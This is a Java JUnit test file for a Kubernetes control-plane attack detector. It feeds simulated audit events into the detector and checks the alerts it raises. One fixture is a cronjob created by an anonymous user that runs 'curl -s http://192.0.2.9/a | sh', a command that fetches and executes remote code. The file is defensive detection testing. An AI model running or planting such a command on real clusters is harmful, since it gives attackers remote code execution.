package io.firedamp.detectors.controlplane;

import static io.firedamp.detectors.controlplane.Requests.TEN;
import static io.firedamp.detectors.controlplane.Requests.anonymous;
import static io.firedamp.detectors.controlplane.Requests.request;
import static io.firedamp.detectors.controlplane.Requests.running;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.detectors.Detector;
import io.firedamp.detectors.DetectorContract;
import io.firedamp.detectors.DetectorHarness;
import io.firedamp.schemas.avro.AuditEvent;
import io.firedamp.schemas.avro.Leg;
import io.firedamp.schemas.avro.Signal;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.ServiceLoader;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ControlPlaneDetectorTest extends DetectorContract {
  @Override
  protected Detector detector() {
    return new ControlPlaneDetector(ControlPlaneDetector.Settings.DEFAULTS);
  }

  @Override
  protected Set<String> durableNames() {
    return Set.of(
        "audit-events", "written-signals", "acts-by-scope-repartition", "acts", "signals");
  }

  @Override
  protected List<AuditEvent> story() {
    return List.of(
        anonymous("list", "pods", "x").build(),
        anonymous("create", "cronjobs", "sync")
            .setTime(TEN.plusSeconds(60))
            .setSpec(
                running(
                        "docker.io/docker123321/cron:latest",
                        "sh",
                        "-c",
                        "curl -s http://192.0.2.9/a | sh")
                    .setSchedule("*/5 * * * *")
                    .build())
            .build(),
        request("create", "daemonsets", "agent")
            .setTime(TEN.plusSeconds(120))
            .setSpec(running("docker.io/library/nginx:1").build())
            .build());
  }

  @Test
  void saysWhoLetWhatInWithAPointerToTheRequest() {
    List<Signal> signals = play(story());

    assertThat(signals)
        .extracting(Signal::getRule)
        .containsExactly("K8S-01", "K8S-01", "K8S-06", "K8S-07", "K8S-10", "K8S-09");
    assertThat(signals.get(2))
        .satisfies(
            signal -> {
              assertThat(signal.getSubject()).isEqualTo("c/workload/cronjob/shop/sync");
              assertThat(signal.getLeg()).isEqualTo(Leg.ACCESS);
              assertThat(signal.getSlot()).isEqualTo("audit-createcronjobssync");
              assertThat(signal.getValidUntil())
                  .isEqualTo(signal.getTime().plus(Duration.ofDays(400)));
              assertThat(signal.getAttributes())
                  .containsEntry("image", "docker.io/docker123321/cron:latest")
                  .containsEntry("user", "system:anonymous")
                  .containsEntry("source.address", "198.51.100.7");
              assertThat(signal.getEvidence())
                  .singleElement()
                  .satisfies(evidence -> assertThat(evidence.getOffset()).isEqualTo(1));
            });
  }

  @Test
  void saysTheSameOnceWhateverTheOrderAndHoweverOftenDelivered() {
    List<String> expected = ids(play(story()));

    for (long seed = 0; seed < 10; seed++) {
      List<AuditEvent> events = new ArrayList<>(story());
      events.addAll(story());
      Collections.shuffle(events, new Random(seed));

      assertThat(ids(play(events))).as("seed %d", seed).isEqualTo(expected);
    }
  }

  @ParameterizedTest
  @ValueSource(ints = {0, 20, 50})
  void whatStandsOfWhatWasDoneTogetherDoesNotHangOnItsOrder(int minutesPastTen) {
    Instant begin = TEN.plus(Duration.ofMinutes(minutesPastTen));
    List<AuditEvent> events = new ArrayList<>();
    for (int i = 0; i < 12; i++) {
      events.add(request("get", "secrets", "s" + i).setTime(begin.plusSeconds(20L * i)).build());
      events.add(
          request("delete", "networkpolicies", "p" + i)
              .setTime(begin.plusSeconds(30L * i))
              .setNamespace(i % 2 == 0 ? "shop" : "other")
              .build());
      events.add(
          request("create", "daemonsets", "w" + i % 3)
              .setEventId("make" + i)
              .setTime(begin.plusSeconds(100L * i))
              .setSpec(running("docker.io/xyzzy77/a:1").build())
              .build());
      events.add(
          request("delete", "daemonsets", "w" + i % 3)
              .setEventId("delete" + i)
              .setUser("john")
              .setTime(begin.plusSeconds(i * 100 + 50))
              .build());
    }
    Set<String> expected = standing(play(events));

    assertThat(expected)
        .anySatisfy(id -> assertThat(id).startsWith("K8S-11"))
        .anySatisfy(id -> assertThat(id).startsWith("K8S-19"))
        .anySatisfy(id -> assertThat(id).startsWith("K8S-22"));
    for (long seed = 0; seed < 10; seed++) {
      List<AuditEvent> shuffled = new ArrayList<>(events);
      shuffled.addAll(events.subList(0, 10));
      Collections.shuffle(shuffled, new Random(seed));

      assertThat(standing(play(shuffled))).as("seed %d", seed).isEqualTo(expected);
    }
  }

  /** Once taken back, a signal stays so. */
  private static Set<String> standing(List<Signal> signals) {
    Set<String> standing = new TreeSet<>();
    Set<String> takenBack = new TreeSet<>();
    for (Signal signal : signals) {
      (signal.getRetracted() ? takenBack : standing).add(signal.getRule() + " " + signal.getId());
    }
    standing.removeAll(takenBack);
    return standing;
  }

  @Test
  void isFoundByItsName() {
    assertThat(ServiceLoader.load(Detector.Factory.class))
        .anySatisfy(factory -> assertThat(factory.name()).isEqualTo("control-plane"));
  }

  private List<Signal> play(List<AuditEvent> events) {
    try (DetectorHarness harness = new DetectorHarness(detector())) {
      return harness.publish(events).signals();
    }
  }

  private static List<String> ids(List<Signal> signals) {
    return signals.stream().map(Signal::getId).sorted().toList();
  }
}
